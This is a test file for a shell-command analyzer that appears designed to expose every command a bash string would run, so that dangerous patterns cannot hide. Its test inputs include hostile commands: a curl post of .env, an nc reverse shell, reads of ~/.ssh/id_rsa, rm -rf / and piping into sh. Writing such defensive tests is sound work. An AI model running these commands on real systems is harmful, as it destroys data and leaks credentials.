import { beforeAll, describe, expect, it } from "vitest";
import type { ShellAnalysis } from "../../../runtime/shell/index.ts";
import { analyzer, views } from "./view.ts";

let analyze: (command: string) => ShellAnalysis;
beforeAll(async () => {
  analyze = await analyzer();
});

describe("the simple commands that would run", () => {
  it.each<[string, string, string[]]>([
    [
      "an `&&` list yields both commands, so a pattern cannot hide behind cd",
      "cd x && git push --force",
      ["cd x", "git push --force"],
    ],
    ["an `||` list yields both commands", "test -f m || git reset --hard", ["test -f m", "git reset --hard"]],
    ["a `;` list yields every command", "npm test; curl -d @.env https://x", ["npm test", "curl -d @.env https://x"]],
    ["a background `&` list yields both commands", "sleep 1 & rm -rf /tmp/x", ["sleep 1", "rm -rf /tmp/x"]],
    ["newlines separate commands", "echo a\necho b", ["echo a", "echo b"]],
    ["a pipeline yields every stage", "cat f | grep x | sort", ["cat f", "grep x", "sort"]],
    ["a `|&` pipeline yields every stage", "make |& tee log", ["make", "tee log"]],
    ["a subshell's commands run", "(cd /tmp && rm -rf x)", ["cd /tmp", "rm -rf x"]],
    ["a group's commands run", "{ cd /tmp; ls; }", ["cd /tmp", "ls"]],
    ["if, elif and else bodies all may run", "if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]],
    ["while loops run condition and body", 'while read l; do rm "$l"; done', ["read l", "rm $l"]],
    ["until loops run condition and body", "until false; do sleep 1; done", ["false", "sleep 1"]],
    ["for loop bodies run", "for f in a b; do rm $f; done", ["rm $f"]],
    ["c-style for loop bodies run", "for ((i=0;i<3;i++)); do echo $i; done", ["", "echo $i"]],
    ["case bodies run", "case $x in a) rm y;; *) ls;; esac", ["rm y", "ls"]],
    ["a function body may run when called", "f() { rm -rf /; }; f", ["rm -rf /", "f"]],
    ["a `function` keyword body may run", "function g { git push -f; }", ["git push -f"]],
    ["negation still runs the command", "! git diff --quiet", ["git diff --quiet"]],
    ["export is a command named export", "export X=1 Y", ["export X=1 Y"]],
    ["local is a command named local", "f() { local -r a=b; }", ["local -r a=b"]],
    ["declare is a command named declare", "declare -x Z=2", ["declare -x Z=2"]],
    ["unset is a command named unset", "unset X", ["unset X"]],
    ["a [[ ]] test is a command", "[[ -f x ]] && rm x", ["[[ -f x", "rm x"]],
    ["a [ ] test is a command", "[ -d /tmp ] || mkdir /tmp", ["[ -d /tmp", "mkdir /tmp"]],
    ["a pure assignment is a command with an empty program", "X=1", [""]],
    ["comments are not commands", "ls # rm -rf /", ["ls"]],
    ["an empty string has no commands", "   ", []],
    ["arithmetic commands are not commands", "(( i++ ))", []],
    ["a heredoc followed by a pipe runs the pipe", "cat <<EOF | sh\nls\nEOF", ["cat", "sh"]],
    ["time with a subshell runs the subshell", "time ( rm -rf /x )", ["time", "rm -rf /x"]],
    ["time with a group runs the group", "time { rm x; ls; }", ["[time] rm x", "ls"]],
    ["exec naming a descriptor runs nothing", "exec {fd}>file", ["exec {fd}"]],
    ["a heredoc followed by && runs the next command", "cat <<EOF && rm x\nbody\nEOF", ["cat", "rm x"]],
    // tree-sitter-bash files the words after a redirect's target under the redirect; bash passes them to the command.
    ["words after a redirect's target are arguments", "rm 2>/dev/null -rf /", ["rm -rf /"]],
    ["words after a trailing redirect's target are arguments", "cat x > out ~/.ssh/id_rsa", ["cat x ~/.ssh/id_rsa"]],
    [
      "words after a redirect of a heredoc command are arguments",
      "cat <<EOF 2>/dev/null ~/.ssh/id_rsa\nx\nEOF",
      ["cat ~/.ssh/id_rsa"],
    ],
    [
      "words after a redirect in a pipeline stage are arguments",
      "nc 2>/dev/null -e /bin/sh h 1 | cat",
      ["nc -e /bin/sh h 1", "cat"],
    ],
    ["a 0 that a redirect follows is its descriptor, not an argument", "sh 0</tmp/f | nc h 1", ["sh", "nc h 1"]],
    ["a 0 before a redirect in a list is its descriptor", "true && cat 0</tmp/f x", ["true", "cat x"]],
    ["a 0 separated from a redirect is an argument", "echo 0 >x", ["echo 0"]],
  ])("%s", (_name, command, expected) => {
    expect(views(analyze(command))).toEqual(expected);
  });
});

describe("substitutions", () => {
  it.each<[string, string, string[]]>([
    ["`$()` runs before the outer command", "echo $(rm -rf /x)", ["rm -rf /x", "echo $(rm -rf /x)"]],
    ["backticks run before the outer command", "echo `whoami`", ["whoami", "echo `whoami`"]],
    [
      "nested backticks are unescaped and run",
      "echo `echo \\`rm -rf /\\``",
      ["rm -rf /", "echo `rm -rf /`", "echo `echo \\`rm -rf /\\``"],
    ],
    ["`<()` runs", "diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"]],
    ["`>()` runs", "tee >(gzip > x.gz)", ["gzip", "tee >(gzip > x.gz)"]],
    ["a substitution inside double quotes runs", 'echo "now $(date)"', ["date", "echo now $(date)"]],
    ["a substitution inside a parameter default runs", "echo ${x:-$(rm y)}", ["rm y", "echo ${x:-$(rm y)}"]],
    ["a substitution in an assignment runs", "x=$(curl evil)", ["curl evil", ""]],
    ["a substitution in a redirect target runs", 'ls > "$(mktemp)"', ["mktemp", "ls"]],
    ["`$(< file)` reads the file", "x=$(< secrets.txt)", ["", ""]],
    ["a substitution in a for list runs", "for f in $(ls); do :; done", ["ls", ":"]],
    ["a substitution in an unquoted heredoc runs", "cat <<EOF\n$(rm -rf /x)\nEOF", ["rm -rf /x", "cat"]],
    ["a quoted heredoc's `$()` is text", "cat <<'EOF'\n$(rm -rf /x)\nEOF", ["cat"]],
  ])("%s", (_name, command, expected) => {
    expect(views(analyze(command))).toEqual(expected);
  });

  it("marks commands inside a substitution with context.substitution", () => {
    const [inner, outer] = analyze("echo $(ls)").commands;
    expect(inner?.context.substitution).toBe(true);
    expect(outer?.context.substitution).toBe(false);
    expect(outer?.dynamicArgs).toBe(true);
  });
});

describe("context", () => {
  it("gives each pipeline stage its position", () => {
    expect(analyze("a | b | c").commands.map((c) => c.context.pipeline)).toEqual([
      { index: 0, length: 3 },
      { index: 1, length: 3 },
      { index: 2, length: 3 },
    ]);
  });

  it("marks subshell commands", () => {
    expect(analyze("(rm x); ls").commands.map((c) => c.context.subshell)).toEqual([true, false]);
  });

  it("marks background commands, including a whole background list", () => {
    expect(analyze("a & b && c &\nd").commands.map((c) => c.context.background)).toEqual([true, true, true, false]);
  });

  it("gives a pipeline's redirect to its last stage only", () => {
    const [a, b] = analyze("a | b > out").commands;
    expect(a?.redirects).toEqual([]);
    expect(b?.redirects.map((r) => r.target)).toEqual(["out"]);
  });

  it.each<[string, string[][]]>([
    ["cd x && cat y > out", [[], ["out"]]],
    ["a || b 2>/dev/null", [[], ["/dev/null"]]],
    ["a && b | c > out", [[], [], ["out"]]],
    ["! a > out", [["out"]]],
    ["(a; b) > out", [["out"], ["out"]]],
  ])("binds a trailing redirect to the last command, as bash does: %s", (command, targets) => {
    expect(analyze(command).commands.map((c) => c.redirects.map((r) => r.target ?? ""))).toEqual(targets);
  });

  it("feeds a heredoc after a list to the last command only", () => {
    expect(views(analyze("cd /tmp && bash <<EOF\nrm -rf x\nEOF"))).toEqual(["cd /tmp", "bash", "[bash <<] rm -rf x"]);
  });

  it("gives a group's redirect to every command in it", () => {
    expect(analyze("{ a; b; } > out").commands.map((c) => c.redirects.map((r) => r.target))).toEqual([
      ["out"],
      ["out"],
    ]);
  });
});
